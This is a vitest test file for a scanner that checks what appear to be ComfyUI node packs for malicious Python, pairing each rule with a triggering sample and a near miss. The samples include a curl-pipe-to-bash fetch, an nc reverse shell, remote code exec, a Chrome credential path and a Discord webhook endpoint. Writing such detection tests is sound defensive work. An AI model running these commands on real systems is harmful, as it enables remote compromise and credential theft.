import { describe, expect, it } from 'vitest';
import { DEFAULT_SCAN_LIMITS, scanPack } from './scan-pack.ts';
import { RULES } from './rules.ts';

// Each rule with a small crafted pack that must trigger it and a near miss that must not.

const encode = (text: string) => new TextEncoder().encode(text);

async function scan(files: Record<string, string | Uint8Array>) {
  const pack = {
    files: Object.entries(files).map(([path, content]) => ({
      path,
      bytes: typeof content === 'string' ? encode(content) : content,
    })),
    skipped: [],
  };
  return (await scanPack(pack)).findings;
}

const ids = async (files: Record<string, string | Uint8Array>) => (await scan(files)).map((f) => f.ruleId);

const py = (code: string) => ({ 'nodes.py': code });

const cases: {
  rule: { id: string };
  hit: Record<string, string | Uint8Array>;
  miss: Record<string, string | Uint8Array>;
}[] = [
  { rule: RULES.dynamicExec, hit: py('eval(user_formula)\n'), miss: py('import re\nre.compile(x)\nmodel.eval()\n') },
  {
    rule: RULES.obfuscatedExec,
    hit: py('import base64 as b\nblob = b.b64decode("cHJpbnQoMSk=")\nexec(blob)\n'),
    miss: py('import base64\nimage = base64.b64decode(data)\nsave(image)\n'),
  },
  {
    rule: RULES.obfuscatedExec,
    hit: py("exec(''.join(chr(c) for c in [112, 114]))\n"),
    miss: py("label = ''.join(chr(c) for c in [65, 66])\n"),
  },
  {
    rule: RULES.remoteExec,
    hit: py('import requests\nexec(requests.get("https://x.example/p.py").text)\n'),
    miss: py('import requests\nprint(requests.get("https://x.example/p.json").json())\n'),
  },
  {
    rule: RULES.codeObject,
    hit: py('import marshal\ncode = marshal.loads(data)\n'),
    miss: py('import json\ncode = json.loads(data)\n'),
  },
  {
    rule: RULES.obfuscatedImport,
    hit: py('import base64\nm = __import__(base64.b64decode("b3M=").decode())\n'),
    miss: py('m = __import__("os")\n'),
  },
  {
    rule: RULES.shellDownload,
    hit: py('import subprocess as sp\nsp.run(["wget", "https://x.example/model.bin"])\n'),
    miss: py('import subprocess\nsubprocess.run(["ffmpeg", "-i", "in.mp4", "out.gif"])\n'),
  },
  {
    rule: RULES.shellDownloadPiped,
    hit: py('from os import system as run\nrun("curl -s https://x.example/i.sh | bash")\n'),
    miss: py('import os\nos.system("ls -la | sort")\n'),
  },
  {
    rule: RULES.shellDownloadPiped,
    hit: py("getattr(__import__('os'), 'system')('nc -e /bin/sh 10.0.0.1 4444')\n"),
    miss: py("getattr(__import__('os'), 'getcwd')()\n"),
  },
  {
    rule: RULES.pipInstall,
    hit: py('import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "numpy"])\n'),
    miss: py('import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "list"])\n'),
  },
  {
    rule: RULES.pipInstallRemote,
    hit: py('import os\nos.system("pip install git+https://github.com/x/y")\n'),
    miss: py('import os\nos.system("pip install numpy==1.26")\n'),
  },
  {
    rule: RULES.executableUrl,
    hit: py('URL = "https://files.example/tools/setup.exe"\n'),
    miss: py('URL = "https://hf-mirror.com/models/weights.safetensors"\n'),
  },
  {
    rule: RULES.wheelUrl,
    hit: py('W = "https://x.example/pkg-1.0-py3-none-any.whl"\n'),
    miss: py('W = "pkg.whl is nice"\n'),
  },
  {
    rule: RULES.credentialPath,
    hit: py('p = os.path.expanduser("~/AppData/Local/Google/Chrome/User Data/Default/Login Data")\n'),
    miss: py('"""Reads cookies and Login Data? No: docstrings are prose."""\nlabels = ["cookies", "cake"]\n'),
  },
  {
    rule: RULES.exfilEndpoint,
    hit: py('HOOK = "https://discord.com/api/webhooks/123/abc"\n'),
    miss: py('HELP = "https://discord.com/invite/comfy"\n'),
  },
  { rule: RULES.credentialLibrary, hit: py('import browser_cookie3\n'), miss: py('import http.cookies\n') },
  {
    rule: RULES.pickleRemote,
    hit: py('import pickle, requests\ndata = requests.get(u).content\nobj = pickle.loads(data)\n'),
    miss: py('import pickle\nwith open("cache.pkl", "rb") as f:\n    obj = pickle.load(f)\n'),
  },
  {
    rule: RULES.pickleRemote,
    hit: py('import torch, urllib.request\nm = torch.load(urllib.request.urlopen(u))\n'),
    miss: py('import torch, urllib.request\nm = torch.load(urllib.request.urlopen(u), weights_only=True)\n'),
  },
  { rule: RULES.bundledExecutable, hit: { 'bin/helper.exe': 'x' }, miss: { 'docs/helper.txt': 'x' } },
  { rule: RULES.bundledNative, hit: { 'lib/_ops.so': 'x' }, miss: { 'lib/_ops.py': '' } },
  { rule: RULES.bundledPackage, hit: { 'wheels/x-1.0-py3-none-any.whl': 'x' }, miss: { 'requirements.txt': 'x' } },
  {
    rule: RULES.compiledWithoutSource,
    hit: { '__pycache__/secret.cpython-311.pyc': 'x' },
    miss: { 'util.py': '', '__pycache__/util.cpython-311.pyc': 'x' },
  },
  {
    rule: RULES.disguisedBinary,
    hit: { 'assets/logo.png': Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]) },
    miss: { 'assets/logo.png': Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]) },
  },
  {
    rule: RULES.encodedBlob,
    hit: py(`BLOB = "${'QUJDa2x9'.repeat(300)}"\n`),
    miss: py(`TEXT = "${'hello world '.repeat(300)}"\n`),
  },
  { rule: RULES.unparseable, hit: py('def broken(:\n    pass\n'), miss: py('def fine():\n    pass\n') },
];

describe('scanner rules', () => {
  it.each(cases.map((c, i) => [`${c.rule.id} #${i}`, c] as const))('%s: hit and near miss', async (_, c) => {
    expect(await ids(c.hit)).toContain(c.rule.id);
    expect(await ids(c.miss)).not.toContain(c.rule.id);
  });

  it('records file, line, a trimmed snippet, the severity and the message', async () => {
    const findings = await scan({
      'pkg/evil.py': `x = 1\nimport zlib\n${' '.repeat(10)}exec(zlib.decompress(b"${'A'.repeat(400)}"))\n`,
    });
    const found = findings.find((f) => f.ruleId === RULES.obfuscatedExec.id)!;
    expect(found).toMatchObject({
      severity: 'critical',
      file: 'pkg/evil.py',
      line: 3,
      message: RULES.obfuscatedExec.message,
    });
    expect(found.snippet.startsWith('exec(zlib.decompress(')).toBe(true);
    expect(found.snippet.length).toBe(200);
  });

  it('reports files it could not scan (limits) as a blocking finding', async () => {
    const pack = {
      files: [{ path: 'huge.py', bytes: encode('x = 1\n'.repeat(10)) }],
      skipped: [{ path: 'more.py', reason: 'beyond the first 1 files' }],
    };
    const report = await scanPack(pack, { ...DEFAULT_SCAN_LIMITS, maxPythonBytes: 10, timeBudgetMs: 60_000 });
    expect(report.findings.map((f) => [f.ruleId, f.file])).toEqual([
      [RULES.notScanned.id, 'more.py'],
      [RULES.notScanned.id, 'huge.py'],
    ]);
    expect(report.skipped).toBe(2);
  });

  it('finds nothing in an ordinary node pack', async () => {
    const findings = await scan({
      '__init__.py': 'from .nodes import NODE_CLASS_MAPPINGS\n',
      'nodes.py':
        'import torch\nimport folder_paths\nclass Blur:\n    """Blurs an image."""\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {"required": {"image": ("IMAGE",)}}\n    RETURN_TYPES = ("IMAGE",)\n    FUNCTION = "run"\n    def run(self, image):\n        return (torch.nn.functional.avg_pool2d(image, 3),)\nNODE_CLASS_MAPPINGS = {"Blur": Blur}\n',
    });
    expect(findings).toEqual([]);
  });
});
